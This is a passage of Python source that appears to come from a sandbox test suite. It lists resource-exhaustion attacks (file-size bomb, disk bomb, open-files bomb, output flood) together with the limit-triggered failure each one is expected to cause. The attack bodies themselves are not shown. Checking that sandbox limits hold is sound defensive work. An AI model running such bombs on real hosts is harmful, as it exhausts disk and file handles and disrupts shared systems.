           why="the cell is stopped at the time limit; output is limited", reasons=("output", "limit") + HANG_REASONS),
    Attack("file_size_bomb", "write one file of up to 64 GiB in the kernel's directory",
           _after_solved(_FILE_SIZE_BOMB), ("noisy_line",), danger="resources", needs=("file_size", "filesystem"),
           why="the write fails or the kernel is killed at the file size limit",
           reasons=("file", "size", "disk", "died", "limit") + HANG_REASONS),
    Attack("disk_bomb", "many 64 MiB files in the working and temporary directories, up to 64 GiB",
           _after_solved(_DISK_BOMB), ("record",), danger="resources", needs=("disk", "file_size", "filesystem"),
           why="writing fails when the working directory's or /tmp's size bound is reached (both are "
               "size-limited tmpfs); the bomb then raises the last error",
           reasons=("file", "size", "disk", "space", "died", "limit") + HANG_REASONS),
    Attack("open_files_bomb", "raise the open-files limit to its hard limit and open files until it is reached",
           _after_solved(_FD_BOMB), ("two_independent_normals",), danger="resources",
           needs=("open_files", "filesystem"), why="opening fails at the limit, after the solved exercises' tests"),
)

BY_ID = {a.id: a for a in ATTACKS}
assert len(BY_ID) == len(ATTACKS), "attack ids must be unique"
